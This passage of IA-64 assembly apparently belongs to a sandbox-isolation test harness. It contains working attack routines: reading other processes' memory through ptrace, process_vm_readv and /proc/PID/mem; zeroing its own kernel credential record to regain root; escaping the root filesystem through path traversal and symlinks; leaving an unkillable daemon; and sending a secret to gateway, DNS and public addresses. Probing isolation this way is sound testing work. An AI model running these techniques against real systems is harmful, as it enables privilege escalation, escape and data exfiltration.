(p8)    st8 [r18] = r0
(p8)    movl out0 = .Lzeroed
        ;;
(p8)    br.call.sptk.many b0 = out_str
        ;;
        adds r14 = 31, loc8             // next: at + ((16 + len + 15) & ~15)
        ;;
        add loc3 = loc3, r14
        ;;
        and loc3 = -16, loc3
        br.cond.sptk .Lw_loop
        ;;
.Lw_done:
        LEAVE
        .endp walk
        .section .rodata
.Lzeroed: .asciz "own credential record found and zeroed\n"
        .text

// snoop_record(header, kind, len): copy the payload out first (our own output passes through
// the kernel's I/O buffer too), then print its strings
        .proc snoop_record
snoop_record:
        ENTER 3, 4, 3
        mov r14 = COPY_MAX
        mov loc2 = in2
        ;;
        cmp.ltu p6, p0 = r14, in2
        ;;
(p6)    mov loc2 = r14
        adds r16 = 16, in0
        movl r17 = copybuf
        mov r18 = 0
        ;;
.Lsn_copy:
        cmp.ltu p6, p0 = r18, loc2
        ;;
(p6)    ld1 r19 = [r16], 1
(p6)    adds r18 = 1, r18
        ;;
(p6)    st1 [r17] = r19, 1
(p6)    br.cond.sptk .Lsn_copy
        ;;
        cmp.eq p6, p7 = KIND_PIPE, in1
        ;;
(p6)    movl out0 = s_pipe_buffer
(p7)    movl out0 = s_io_buffer
        ;;
        movl out1 = copybuf
        mov out2 = loc2
        CALL print_strings
        LEAVE
        .endp snoop_record

// ---- attacks --------------------------------------------------------------------------------

// attack_peek(pid, addr, len): another process's private memory, three ways
        .proc attack_peek
attack_peek:
        ENTER 3, 8, 6
        mov out0 = 1000                 // as another user: with the victim's uid, Linux
        ;;                              // itself lets ptrace and /proc/PID/mem read it
        SYSCALL SYS_setuid
        mov loc2 = in2
        mov r14 = PEEK_MAX
        ;;
        cmp.ltu p6, p0 = r14, in2
        ;;
(p6)    mov loc2 = r14                  // len
        movl r16 = iov_local
        movl r17 = peekbuf
        movl r18 = iov_remote
        ;;
        st8 [r16] = r17, 8
        st8 [r18] = in1, 8
        ;;
        st8 [r16] = loc2
        st8 [r18] = loc2
        // process_vm_readv(pid, &local, 1, &remote, 1, 0)
        mov out0 = in0
        movl out1 = iov_local
        mov out2 = 1
        movl out3 = iov_remote
        mov out4 = 1
        mov out5 = 0
        SYSCALL SYS_process_vm_readv
        cmp.ne p6, p7 = 0, r10
        mov loc3 = r8                   // bytes read
        ;;
(p6)    mov loc3 = -1
(p6)    mov out1 = r8
(p7)    mov out1 = 0
        movl out0 = s_pvr
        movl out2 = s_ok
        CALL report
        cmp.lt p6, p0 = 0, loc3
        ;;
(p6)    movl out0 = s_pvr
(p6)    movl out1 = peekbuf
(p6)    mov out2 = loc3
        ;;
(p6)    br.call.sptk.many b0 = print_strings
        ;;

        // /proc/PID/mem
        movl out0 = pidstr
        mov out1 = in0
        CALL fmt_u64
        movl out0 = pathbuf
        movl out1 = s_proc
        movl out2 = pidstr
        CALL concat
        mov out0 = r8
        movl out1 = s_mem
        movl out2 = s_empty
        CALL concat
        movl out0 = pathbuf
        mov out1 = O_RDONLY
        mov out2 = 0
        SYSCALL SYS_open
        cmp.ne p6, p7 = 0, r10
        mov loc4 = r8                   // fd, or errno
        mov loc3 = -1                   // bytes read
        ;;
(p6)    mov loc5 = r8                   // error
(p6)    mov loc4 = -1
(p6)    br.cond.dpnt .Lpk_mem_report
        mov out0 = loc4
        movl out1 = peekbuf
        mov out2 = loc2
        mov out3 = in1
        SYSCALL SYS_pread64
        cmp.ne p6, p7 = 0, r10
        ;;
(p6)    mov loc5 = r8
(p7)    mov loc5 = 0
(p7)    mov loc3 = r8
        ;;
.Lpk_mem_report:
        movl out0 = s_procmem_l
        mov out1 = loc5
        movl out2 = s_ok
        CALL report
        cmp.lt p6, p0 = 0, loc3
        ;;
(p6)    movl out0 = s_procmem
(p6)    movl out1 = peekbuf
(p6)    mov out2 = loc3
        ;;
(p6)    br.call.sptk.many b0 = print_strings
        ;;
        cmp.le p6, p0 = 0, loc4
        mov out0 = loc4
        ;;
(p6)    mov r15 = SYS_close
        ;;
(p6)    break.m 0x100000
        ;;

        // ptrace(PTRACE_ATTACH, pid, 0, 0)
        mov out0 = PTRACE_ATTACH
        mov out1 = in0
        mov out2 = 0
        mov out3 = 0
        SYSCALL SYS_ptrace
        cmp.ne p6, p7 = 0, r10
        ;;
(p6)    mov loc5 = r8
(p7)    mov loc5 = 0
        ;;
        movl out0 = s_ptrace_att
        mov out1 = loc5
        movl out2 = s_ok
        CALL report
        cmp.ne p6, p0 = 0, loc5
        ;;
(p6)    br.cond.dpnt .Lpk_done
        mov out0 = in0
        CALL waitpid
        mov loc6 = 0                    // i
        ;;
.Lpk_peek:
        cmp.ltu p6, p7 = loc6, loc2
        ;;
(p6)    mov out0 = PTRACE_PEEKDATA
(p6)    mov out1 = in0
(p6)    add out2 = in1, loc6
(p6)    mov out3 = 0
(p7)    br.cond.dpnt .Lpk_peeked
        ;;
        SYSCALL SYS_ptrace              // IA-64: the word comes back in r8
        cmp.ne p6, p0 = 0, r10
        movl r14 = peekbuf
        ;;
(p6)    br.cond.dpnt .Lpk_peeked
        add r14 = r14, loc6
        adds loc6 = 8, loc6
        ;;
        st8 [r14] = r8
        br.cond.sptk .Lpk_peek
        ;;
.Lpk_peeked:
        movl out0 = s_ptrace_peek
        movl out1 = peekbuf
        mov out2 = loc2
        CALL print_strings
.Lpk_done:
        mov r8 = 0
        LEAVE
        .endp attack_peek


// attack_root(file) -> r8 = exit status: drop to uid 1000, then zero the own credential
// record in the kernel arena and try to get root back
        .proc attack_root
attack_root:
        ENTER 1, 6, 4
        mov out0 = 1000
        SYSCALL SYS_setgid
        cmp.ne p6, p0 = 0, r10
        mov loc2 = r8
        ;;
(p6)    br.cond.dpnt .Lar_nodrop
        mov out0 = 1000
        SYSCALL SYS_setuid
        cmp.ne p6, p0 = 0, r10
        mov loc2 = r8
        ;;
(p6)    br.cond.dpnt .Lar_nodrop
        SYSCALL SYS_getuid
        sxt4 loc3 = r8
        PUTS "dropped to uid "
        PUTN loc3
        PUTC 10

        mov out0 = in0
        mov out1 = O_RDONLY
        mov out2 = 0
        SYSCALL SYS_open
        cmp.ne p6, p7 = 0, r10
        ;;
(p6)    mov loc4 = r8                   // error
(p6)    mov loc3 = -1
(p7)    mov loc4 = 0
(p7)    mov loc3 = r8                   // fd
        ;;
        movl out0 = s_root_as_1000
        mov out1 = loc4
        movl out2 = s_opened
        CALL report
        cmp.le p6, p0 = 0, loc3
        mov out0 = loc3
        ;;
(p6)    mov r15 = SYS_close
        ;;
(p6)    break.m 0x100000
        ;;

        // the attack: probe the kernel region in a child, then rewrite our record here
        mov out0 = OP_PROBE_WRITE
        movl out1 = s_write_kernel
        mov out2 = 0
        mov out3 = 0
        CALL guarded
        cmp.eq p6, p0 = 0, r8
        mov out0 = 1
        mov out1 = 0
        ;;
(p6)    br.call.sptk.many b0 = walk
        ;;
        SYSCALL SYS_getuid
        sxt4 loc3 = r8
        SYSCALL SYS_geteuid
        sxt4 loc4 = r8
        mov out0 = 0
        SYSCALL SYS_setuid
        cmp.ne p6, p7 = 0, r10
        ;;
(p6)    mov loc5 = r8
(p7)    mov loc5 = 0
        PUTS "after the attack: getuid "
        PUTN loc3
        PUTS " geteuid "
        PUTN loc4
        PUTS ", setuid(0) "
        cmp.eq p6, p7 = 0, loc5
        ;;
(p6)    movl out0 = s_succeeded
(p6)    br.call.sptk.many b0 = out_str
        ;;
        cmp.ne p6, p0 = 0, loc5
        mov out0 = loc5
        ;;
(p6)    br.call.sptk.many b0 = out_err
        ;;
        PUTC 10

        mov out0 = in0
        mov out1 = O_RDONLY
        mov out2 = 0
        SYSCALL SYS_open
        cmp.ne p6, p0 = 0, r10
        mov loc3 = r8
        ;;
(p6)    br.cond.dpnt .Lar_noread
        mov out0 = loc3
        movl out1 = readbuf
        mov out2 = 127
        SYSCALL SYS_read
        cmp.ne p6, p0 = 0, r10
        movl r14 = readbuf
        mov r16 = r8
        ;;
(p6)    mov r16 = 0
        ;;
        add r14 = r14, r16
        ;;
        st1 [r14] = r0
        movl out0 = s_rootfile_q
        CALL out_str
        movl out0 = readbuf
        CALL out_str
        movl out0 = s_q_close
        CALL out_str
        mov out0 = loc3
        SYSCALL SYS_close
        mov r8 = 0
        LEAVE
.Lar_noread:
        PUTS "root-only file: "
        PUTE loc3
        PUTC 10
        mov r8 = 0
        LEAVE
.Lar_nodrop:
        PUTS "cannot drop to uid 1000: "
        PUTE loc2
        PUTC 10
        mov r8 = 1
        LEAVE
        .endp attack_root

// try_read(path): open PATH: read "..."  or  open PATH: <error>
        .proc try_read
try_read:
        ENTER 1, 3, 3
        mov out0 = in0
        mov out1 = O_RDONLY
        mov out2 = 0
        SYSCALL SYS_open
        cmp.ne p6, p0 = 0, r10
        mov loc2 = r8
        ;;
(p6)    br.cond.dpnt .Ltr_fail
        mov out0 = loc2
        movl out1 = readbuf
        mov out2 = 255
        SYSCALL SYS_read
        cmp.ne p6, p0 = 0, r10
        movl r14 = readbuf
        mov r16 = r8
        ;;
(p6)    mov r16 = 0
        ;;
        add r14 = r14, r16
        ;;
        st1 [r14] = r0
        PUTS "open "
        PUTR in0
        movl out0 = s_read_q
        CALL out_str
        movl out0 = readbuf
        CALL out_str
        movl out0 = s_q_close
        CALL out_str
        mov out0 = loc2
        SYSCALL SYS_close
        LEAVE
.Ltr_fail:
        PUTS "open "
        PUTR in0
        PUTS ": "
        PUTE loc2
        PUTC 10
        LEAVE
        .endp try_read

// host_escape(target) -> r8 = 0: path tricks to reach a host file outside the root
        .proc host_escape
host_escape:
        ENTER 1, 4, 3
        mov out0 = in0
        mov out1 = '/'
        CALL strrchr
        cmp.eq p6, p7 = 0, r8
        ;;
(p6)    mov loc2 = in0                  // the file's name
(p7)    adds loc2 = 1, r8
        mov out0 = in0
        CALL try_read

        movl out0 = pathbuf
        movl out1 = s_up7
        mov out2 = in0
        CALL concat
        movl out0 = pathbuf
        CALL try_read

        movl out0 = pathbuf
        movl out1 = s_self_root
        mov out2 = loc2
        CALL concat
        movl out0 = pathbuf
        CALL try_read

        movl out0 = pathbuf
        movl out1 = s_one_root
        mov out2 = in0
        CALL concat
        movl out0 = pathbuf
        CALL try_read

        // a symlink planted in writable /tmp, pointing out of the root
        movl out0 = s_escape
        SYSCALL SYS_unlink
        mov out0 = in0
        movl out1 = s_escape
        SYSCALL SYS_symlink
        cmp.eq p6, p0 = 0, r10
        movl out0 = s_escape
        ;;
(p6)    br.call.sptk.many b0 = try_read
        ;;
        movl out0 = pathbuf
        movl out1 = s_up5
        mov out2 = in0
        CALL concat
        movl out0 = s_escape2
        SYSCALL SYS_unlink
        movl out0 = pathbuf
        movl out1 = s_escape2
        SYSCALL SYS_symlink
        cmp.eq p6, p0 = 0, r10
        movl out0 = s_escape2
        ;;
(p6)    br.call.sptk.many b0 = try_read
        ;;

        // chdir upwards past the root
        mov loc3 = 16
        ;;
.Lhe_up:
        movl out0 = s_dotdot
        SYSCALL SYS_chdir
        cmp.ne p6, p0 = 0, r10
        adds loc3 = -1, loc3
        ;;
(p6)    br.cond.dpnt .Lhe_last
        cmp.lt p7, p0 = 0, loc3
        ;;
(p7)    br.cond.sptk .Lhe_up
        ;;
.Lhe_last:
        adds out0 = 1, in0
        CALL try_read
        mov r8 = 0
        LEAVE
        .endp host_escape

// outlive() -> r8 = 0: leave a daemon behind (setsid, fork again, SIGHUP/SIGTERM ignored,
// sleeping forever)
        .proc outlive
outlive:
        ENTER 0, 3, 4
        CALL fork
        cmp.eq p6, p0 = 0, r8
        mov loc2 = r8
        ;;
(p6)    br.cond.dpnt .Lol_child
        mov out0 = loc2
        CALL waitpid
        PUTS "left a daemon behind\n"
        mov r8 = 0
        LEAVE
.Lol_child:
        SYSCALL SYS_setsid
        CALL fork
        cmp.eq p6, p0 = 0, r8
        mov out0 = 0
        ;;
(p6)    br.cond.sptk .Lol_daemon
        SYSCALL SYS_exit_group
.Lol_daemon:
        mov out0 = SIGHUP
        movl out1 = sigign
        mov out2 = 0
        mov out3 = 8
        SYSCALL SYS_rt_sigaction
        mov out0 = SIGTERM
        movl out1 = sigign
        mov out2 = 0
        mov out3 = 8
        SYSCALL SYS_rt_sigaction
.Lol_sleep:
        movl out0 = tsec
        mov out1 = 0
        SYSCALL SYS_nanosleep
        br.cond.sptk .Lol_sleep
        ;;
        .endp outlive

// fill(p, c, n)
        .proc fill
fill:
        alloc r2 = ar.pfs, 3, 0, 0, 0
        mov r14 = in0
        mov r16 = in2
        ;;
.Lfi_loop:
        cmp.ne p6, p0 = 0, r16
        ;;
(p6)    st1 [r14] = in1, 1
(p6)    adds r16 = -1, r16
(p6)    br.cond.sptk .Lfi_loop
        ;;
        br.ret.sptk.many b0
        ;;
        .endp fill

// ---- network ---------------------------------------------------------------------------------

// parse_ipv4(s, out) -> r8 = 1 when s is four decimal parts of 0-255 joined by dots (its bytes
// at out), else 0 (out may be partly written)
        .proc parse_ipv4
parse_ipv4:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        mov r14 = in0                   // p
        mov r16 = in1                   // out
        mov r17 = 0                     // parts
        mov r8 = 0
        ;;
.Lp4_part:
        mov r18 = 0                     // value
        mov r19 = 0                     // digits
        ;;
.Lp4_digit:
        ld1 r20 = [r14]
        ;;
        adds r21 = -48, r20
        ;;
        cmp.ltu p6, p7 = 9, r21         // p7: a digit
        ;;
(p7)    shladd r22 = r18, 2, r18        // 5v
(p7)    adds r19 = 1, r19
(p7)    adds r14 = 1, r14
        ;;
(p7)    add r22 = r22, r22              // 10v
        ;;
(p7)    add r18 = r22, r21
(p7)    br.cond.sptk .Lp4_digit
        ;;
        mov r24 = 255
        cmp.eq p6, p0 = 0, r19          // no digits
        cmp.ltu p7, p0 = 3, r19         // more than three
        ;;
        cmp.ltu p8, p0 = r24, r18       // too large
        ;;
(p6)    br.ret.dpnt.many b0
(p7)    br.ret.dpnt.many b0
(p8)    br.ret.dpnt.many b0
        ;;
        st1 [r16] = r18, 1
        adds r17 = 1, r17
        ;;
        cmp.eq p7, p8 = 4, r17
        ;;
(p7)    cmp.eq.unc p9, p0 = 0, r20      // the fourth part ends the text
(p8)    cmp.eq.unc p10, p0 = '.', r20   // the others end with a dot
        ;;
(p9)    mov r8 = 1
(p9)    br.ret.sptk.many b0
(p10)   adds r14 = 1, r14
(p10)   br.cond.sptk .Lp4_part
        ;;
        br.ret.sptk.many b0
        ;;
        .endp parse_ipv4

// parse_ipv6(s, out) -> r8 = 1 when s is an IPv6 address in hex groups with at most one "::"
// (its 16 bytes at out), else 0. The dotted IPv4 tail of inet_pton's forms (::ffff:1.2.3.4)
// is not taken: such an address is skipped, as attacks.c skips what inet_pton refuses.
        .proc parse_ipv6
parse_ipv6:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        movl r30 = v6words
        mov r14 = in0                   // p
        mov r17 = 0                     // groups
        mov r28 = -1                    // where "::" stands, in groups
        mov r8 = 0
        ;;
        mov r18 = r30
        mov r19 = 8
        ;;
.Lp6_zero:
        st8 [r18] = r0, 8
        adds r19 = -1, r19
        ;;
        cmp.ne p6, p0 = 0, r19
        ;;
(p6)    br.cond.sptk .Lp6_zero
        ;;
        ld1 r20 = [r14]
        adds r15 = 1, r14
        ;;
        ld1 r21 = [r15]
        cmp.eq p6, p0 = ':', r20
        ;;
(p6)    cmp.ne.unc p7, p0 = ':', r21
        ;;
(p7)    br.ret.dpnt.many b0             // a lone leading ':'
(p6)    mov r28 = 0
(p6)    adds r14 = 2, r14
        ;;
(p6)    ld1 r20 = [r14]
        ;;
(p6)    cmp.eq.unc p8, p0 = 0, r20
        ;;
(p8)    br.cond.dpnt .Lp6_done          // "::"
        ;;
.Lp6_group:
        mov r18 = 0                     // value
        mov r19 = 0                     // digits
        ;;
.Lp6_hex:
        ld1 r20 = [r14]
        mov r23 = 16                    // not a hex digit
        ;;
        adds r21 = -48, r20             // '0'-'9'
        or r22 = 0x20, r20
        ;;
        adds r22 = -97, r22             // 'a'-'f' (either case) -> 0-5
        cmp.ltu p6, p7 = 9, r21
        ;;
        cmp.ltu p8, p9 = 5, r22
(p7)    mov r23 = r21
        ;;
(p9)    adds r23 = 10, r22
        ;;
        cmp.ltu p10, p11 = 15, r23      // p11: a hex digit
        ;;
(p11)   shl r18 = r18, 4
(p11)   adds r19 = 1, r19
(p11)   adds r14 = 1, r14
        ;;
(p11)   or r18 = r18, r23
(p11)   br.cond.sptk .Lp6_hex
        ;;
        cmp.eq p6, p0 = 0, r19          // no digits
        cmp.ltu p7, p0 = 4, r19         // more than four
        cmp.ltu p8, p0 = 7, r17         // a ninth group
        ;;
(p6)    br.ret.dpnt.many b0
(p7)    br.ret.dpnt.many b0
(p8)    br.ret.dpnt.many b0
        ;;
        shladd r24 = r17, 3, r30
        adds r17 = 1, r17
        ;;
        st8 [r24] = r18
        cmp.eq p6, p0 = 0, r20          // the end
        cmp.eq p7, p0 = ':', r20
        ;;
(p6)    br.cond.dpnt .Lp6_done
(p7)    br.cond.sptk .Lp6_colon
        br.ret.sptk.many b0             // anything else
        ;;
.Lp6_colon:
        adds r14 = 1, r14
        ;;
        ld1 r20 = [r14]
        ;;
        cmp.ne p6, p0 = ':', r20
        ;;
(p6)    br.cond.sptk .Lp6_group         // one ':': the next group
        cmp.lt p7, p0 = -1, r28         // a second "::"
        ;;
(p7)    br.ret.dpnt.many b0
        mov r28 = r17
        adds r14 = 1, r14
        ;;
        ld1 r20 = [r14]
        ;;
        cmp.eq p6, p0 = 0, r20
        ;;
(p6)    br.cond.dpnt .Lp6_done
        br.cond.sptk .Lp6_group
        ;;
.Lp6_done:
        // without "::" eight groups; with it at most seven, and the groups after it move to
        // the end
        cmp.lt p6, p7 = r28, r0
        ;;
(p6)    cmp.ne.unc p8, p0 = 8, r17
(p7)    cmp.eq.unc p9, p0 = 8, r17
        ;;
(p8)    br.ret.dpnt.many b0
(p9)    br.ret.dpnt.many b0
(p6)    br.cond.dpnt .Lp6_store
        mov r18 = r17                   // k: one past the group to move
        mov r19 = 8                     // j: one past where it goes
        ;;
.Lp6_move:
        cmp.lt p7, p6 = r28, r18
        ;;
(p6)    br.cond.dpnt .Lp6_store
        adds r18 = -1, r18
        adds r19 = -1, r19
        ;;
        shladd r21 = r18, 3, r30
        shladd r22 = r19, 3, r30
        ;;
        ld8 r23 = [r21]
        ;;
        st8 [r21] = r0
        ;;
        st8 [r22] = r23
        br.cond.sptk .Lp6_move
        ;;
.Lp6_store:
        mov r18 = 0
        mov r14 = in1
        ;;
.Lp6_out:                               // the eight groups in network order
        shladd r21 = r18, 3, r30
        ;;
        ld8 r22 = [r21]
        adds r18 = 1, r18
        ;;
        extr.u r23 = r22, 8, 8
        ;;
        st1 [r14] = r23, 1
        ;;
        st1 [r14] = r22, 1
        cmp.ltu p7, p6 = 7, r18
        ;;
(p6)    br.cond.sptk .Lp6_out
        ;;
        mov r8 = 1
        br.ret.sptk.many b0
        ;;
        .endp parse_ipv6

// sockaddr_for(text, port, sa) -> r8 = AF_INET or AF_INET6 with sa (32 bytes) filled as
// sockaddr_in / sockaddr_in6 and r9 = its length; r8 = -1 when text is no address
        .proc sockaddr_for
sockaddr_for:
        ENTER 3, 3, 2
        mov r14 = in2
        ;;
        st8 [r14] = r0, 8
        ;;
        st8 [r14] = r0, 8
        ;;
        st8 [r14] = r0, 8
        ;;
        st8 [r14] = r0
        mov out0 = in0
        adds out1 = 4, in2              // sin_addr
        CALL parse_ipv4
        cmp.ne p6, p0 = 0, r8
        ;;
(p6)    br.cond.sptk .Lsa_v4
        adds r14 = 4, in2
        ;;
        st4 [r14] = r0                  // sin6_flowinfo, after a partial IPv4 parse
        mov out0 = in0
        adds out1 = 8, in2              // sin6_addr
        CALL parse_ipv6
        cmp.eq p6, p0 = 0, r8
        ;;
(p6)    mov r8 = -1
(p6)    br.cond.dpnt .Lsa_ret
        mov r14 = AF_INET6
        mov r9 = 28
        br.cond.sptk .Lsa_fill
        ;;
.Lsa_v4:
        mov r14 = AF_INET
        mov r9 = 16
        ;;
.Lsa_fill:
        adds r16 = 2, in2
        extr.u r17 = in1, 8, 8
        mov r8 = r14
        ;;
        st2 [in2] = r14                 // the family, the port in network order
        st1 [r16] = r17, 1
        ;;
        st1 [r16] = in1
.Lsa_ret:
        LEAVE
        .endp sockaddr_for

// out_dest(prefix, text, port): "PREFIX TEXT:PORT"
        .proc out_dest
out_dest:
        ENTER 3, 2, 1
        PUTR in0
        PUTR in1
        PUTC ':'
        PUTN in2
        LEAVE
        .endp out_dest

// reach(text, port, secret): one TCP connect and one UDP datagram carrying secret to
// text:port; prints what each got
        .proc reach
reach:
        ENTER 3, 6, 6
        mov out0 = in0
        mov out1 = in1
        movl out2 = sabuf
        CALL sockaddr_for
        cmp.lt p6, p0 = r8, r0
        mov loc2 = r8                   // family
        mov loc3 = r9                   // length
        ;;
(p6)    br.cond.dpnt .Lre_done
        mov out0 = loc2
        mov out1 = SOCK_STREAM
        mov out2 = 0
        SYSCALL SYS_socket
        cmp.ne p6, p0 = 0, r10
        mov loc4 = r8
        ;;
(p6)    br.cond.dpnt .Lre_udp
        mov out0 = loc4
        movl out1 = sabuf
        mov out2 = loc3
        SYSCALL SYS_connect
        cmp.ne p6, p0 = 0, r10
        mov loc5 = r8
        ;;
(p6)    br.cond.dpnt .Lre_tcp_error
        mov out0 = in2
        CALL strlen
        mov out0 = loc4
        mov out1 = in2
        mov out2 = r8
        SYSCALL SYS_write
        mov out0 = loc4
        movl out1 = readbuf
        mov out2 = 255
        SYSCALL SYS_read
        cmp.ne p6, p0 = 0, r10
        movl r14 = readbuf
        mov r16 = r8
        ;;
(p6)    mov r16 = 0
        ;;
        add r14 = r14, r16
        ;;
        st1 [r14] = r0
        movl out0 = s_tcp
        mov out1 = in0
        mov out2 = in1
        CALL out_dest
        PUTS ": connected, read "
        PUTC 34
        movl out0 = readbuf
        CALL out_str
        movl out0 = s_q_close
        CALL out_str
        br.cond.sptk .Lre_close
        ;;
.Lre_tcp_error:
        movl out0 = s_tcp
        mov out1 = in0
        mov out2 = in1
        CALL out_dest
        PUTS ": "
        PUTE loc5
        PUTC 10
.Lre_close:
        mov out0 = loc4
        SYSCALL SYS_close
.Lre_udp:
        mov out0 = loc2
        mov out1 = SOCK_DGRAM
        mov out2 = 0
        SYSCALL SYS_socket
        cmp.ne p6, p0 = 0, r10
        mov loc4 = r8
        ;;
(p6)    br.cond.dpnt .Lre_done
        mov out0 = in2
        CALL strlen
        mov out0 = loc4
        mov out1 = in2
        mov out2 = r8
        mov out3 = 0
        movl out4 = sabuf
        mov out5 = loc3
        SYSCALL SYS_sendto
        cmp.ne p6, p7 = 0, r10
        ;;
(p6)    mov loc5 = r8                   // the error
(p7)    mov loc5 = 0
        movl out0 = s_udp
        mov out1 = in0
        mov out2 = in1
        CALL out_dest
        cmp.eq p6, p7 = 0, loc5
        ;;
(p6)    movl out0 = s_sent
(p7)    movl out0 = s_colon
        ;;
        CALL out_str
        cmp.ne p6, p0 = 0, loc5
        mov out0 = loc5
        ;;
(p6)    br.call.sptk.many b0 = out_err
        ;;
        cmp.ne p6, p0 = 0, loc5         // (p6 does not live across a call)
        mov out0 = 10
        ;;
(p6)    br.call.sptk.many b0 = out_char
        ;;
        mov out0 = loc4
        SYSCALL SYS_close
.Lre_done:
        LEAVE
        .endp reach

// net_reach(port, secret, extra) -> r8 = 0: reach() the host's loopback, the gateway and the
// DNS address of the guest's network, public addresses, and the NULL-ended list extra
        .proc net_reach
net_reach:
        ENTER 3, 4, 3
        movl loc2 = reach_list
        ;;
.Lnr_fixed:
        ld8 loc3 = [loc2], 8
        ;;
        cmp.eq p6, p0 = 0, loc3
        ;;
(p6)    br.cond.dpnt .Lnr_extra
        mov out0 = loc3
        mov out1 = in0
        mov out2 = in1
        CALL reach
        br.cond.sptk .Lnr_fixed
        ;;
.Lnr_extra:
        mov loc2 = in2
        ;;
.Lnr_next:
        ld8 loc3 = [loc2], 8
        ;;
        cmp.eq p6, p0 = 0, loc3
        ;;
(p6)    br.cond.dpnt .Lnr_done
        mov out0 = loc3
        mov out1 = in0
        mov out2 = in1
        CALL reach
        br.cond.sptk .Lnr_next
        ;;
.Lnr_done:
        mov r8 = 0
        LEAVE
        .endp net_reach

// bind_listen(fd, text, port) -> r8 = 1 when fd binds to text:port and listens
        .proc bind_listen
bind_listen:
        ENTER 3, 3, 3
        mov out0 = in1
        mov out1 = in2
        movl out2 = sabuf
        CALL sockaddr_for
        mov loc2 = r9
        mov out0 = in0
        movl out1 = sabuf
        ;;
        mov out2 = loc2
        SYSCALL SYS_bind
        cmp.ne p6, p0 = 0, r10
        mov r8 = 0
        ;;
(p6)    br.cond.dpnt .Lbl_ret
        mov out0 = in0
        mov out1 = 8
        SYSCALL SYS_listen
        cmp.eq p6, p7 = 0, r10
        ;;
(p6)    mov r8 = 1
(p7)    mov r8 = 0
.Lbl_ret:
        LEAVE
        .endp bind_listen

// net_bind(port) -> r8 = 0: listens on 0.0.0.0:port and [::]:port (IPV6_V6ONLY) for 3 s
        .proc net_bind
net_bind:
        ENTER 1, 6, 5
        mov out0 = AF_INET
        mov out1 = SOCK_STREAM
        mov out2 = 0
        SYSCALL SYS_socket
        mov loc2 = r8
        mov out0 = AF_INET6
        mov out1 = SOCK_STREAM
        mov out2 = 0
        SYSCALL SYS_socket
        mov loc3 = r8
        mov out0 = r8
        mov out1 = IPPROTO_IPV6
        mov out2 = IPV6_V6ONLY
        movl out3 = one
        mov out4 = 4
        SYSCALL SYS_setsockopt
        mov out0 = loc2
        movl out1 = s_any4
        mov out2 = in0
        CALL bind_listen
        mov loc4 = r8
        mov out0 = loc3
        movl out1 = s_any6
        mov out2 = in0
        CALL bind_listen
        mov loc5 = r8
        PUTS "listening on "
        PUTN in0
        PUTS ": ipv4 "
        cmp.ne p6, p7 = 0, loc4
        ;;
(p6)    movl out0 = s_yes
(p7)    movl out0 = s_no
        CALL out_str
        PUTS ", ipv6 "
        cmp.ne p6, p7 = 0, loc5
        ;;
(p6)    movl out0 = s_yes
(p7)    movl out0 = s_no
        CALL out_str
        PUTC 10
        mov loc4 = 30                   // stay listening while the harness looks from the host
        ;;
.Lnb_sleep:
        movl out0 = tdeci
        mov out1 = 0
        SYSCALL SYS_nanosleep
        adds loc4 = -1, loc4
        ;;
        cmp.ne p6, p0 = 0, loc4
        ;;
(p6)    br.cond.sptk .Lnb_sleep
        ;;
        mov r8 = 0
        LEAVE
        .endp net_bind

// dns_query(out, name) -> r8 = length: a DNS query (id 0x1234, RD set) for name, type A,
// class IN
        .proc dns_query
dns_query:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        movl r14 = 0x0000010000013412   // 12 34 01 00 00 01 00 00: id, flags, one question
        adds r16 = 8, in0
        ;;
        st8 [in0] = r14
        st4 [r16] = r0                  // no answers, authorities, additionals
        adds r16 = 12, in0              // out cursor
        mov r15 = in1                   // the label
        ;;
.Ldq_label:
        ld1 r17 = [r15]
        mov r18 = r15
        ;;
        cmp.eq p6, p0 = 0, r17
        ;;
(p6)    br.cond.dpnt .Ldq_end
        ;;
.Ldq_scan:                              // to the label's dot or the end
        ld1 r19 = [r18]
        ;;
        cmp.eq p6, p0 = 0, r19
        cmp.eq p7, p0 = '.', r19
        ;;
(p6)    br.cond.dpnt .Ldq_copy
(p7)    br.cond.dpnt .Ldq_copy
        adds r18 = 1, r18
        br.cond.sptk .Ldq_scan
        ;;
.Ldq_copy:
        sub r20 = r18, r15
        ;;
        st1 [r16] = r20, 1
        ;;
.Ldq_byte:
        cmp.ltu p6, p0 = r15, r18
        ;;
(p6)    ld1 r21 = [r15], 1
        ;;
(p6)    st1 [r16] = r21, 1
(p6)    br.cond.sptk .Ldq_byte
        ;;
        cmp.eq p7, p0 = '.', r19
        ;;
(p7)    adds r15 = 1, r15
        br.cond.sptk .Ldq_label
        ;;
.Ldq_end:
        mov r17 = 1
        st1 [r16] = r0, 1               // the root
        ;;
        st1 [r16] = r0, 1               // type A
        ;;
        st1 [r16] = r17, 1
        ;;
        st1 [r16] = r0, 1               // class IN
        ;;
        st1 [r16] = r17, 1
        ;;
        sub r8 = r16, in0
        br.ret.sptk.many b0
        ;;
        .endp dns_query

// ask(text, port, query, length): sends the query to text:port over UDP and waits 300 ms for
// an answer; "dns TEXT:PORT: answered, rcode R, N answers" / "no answer" / the send's error
        .proc ask
ask:
        ENTER 4, 6, 6
        mov out0 = in0
        mov out1 = in1
        movl out2 = sabuf
        CALL sockaddr_for
        cmp.lt p6, p0 = r8, r0
        mov loc2 = r8
        mov loc3 = r9
        ;;
(p6)    br.cond.dpnt .Lask_ret
        mov out0 = loc2
        mov out1 = SOCK_DGRAM
        mov out2 = 0
        SYSCALL SYS_socket
        cmp.ne p6, p0 = 0, r10
        mov loc4 = r8
        ;;
(p6)    br.cond.dpnt .Lask_ret
        mov out0 = loc4
        mov out1 = in2
        mov out2 = in3
        mov out3 = 0
        movl out4 = sabuf
        mov out5 = loc3
        SYSCALL SYS_sendto
        cmp.eq p6, p0 = 0, r10
        mov loc5 = r8
        ;;
(p6)    br.cond.sptk .Lask_wait
        movl out0 = s_dns
        mov out1 = in0
        mov out2 = in1
        CALL out_dest
        PUTS ": "
        PUTE loc5
        PUTC 10
        br.cond.sptk .Lask_close
        ;;
.Lask_wait:
        mov out0 = loc4
        mov out1 = SOL_SOCKET
        mov out2 = SO_RCVTIMEO
        movl out3 = tv300
        mov out4 = 16
        SYSCALL SYS_setsockopt
        mov out0 = loc4
        movl out1 = dnsreply
        mov out2 = 512
        mov out3 = 0
        SYSCALL SYS_recv
        cmp.ne p6, p0 = 0, r10
        mov loc5 = r8                   // length
        ;;
(p6)    mov loc5 = 0
        movl out0 = s_dns
        mov out1 = in0
        mov out2 = in1
        CALL out_dest
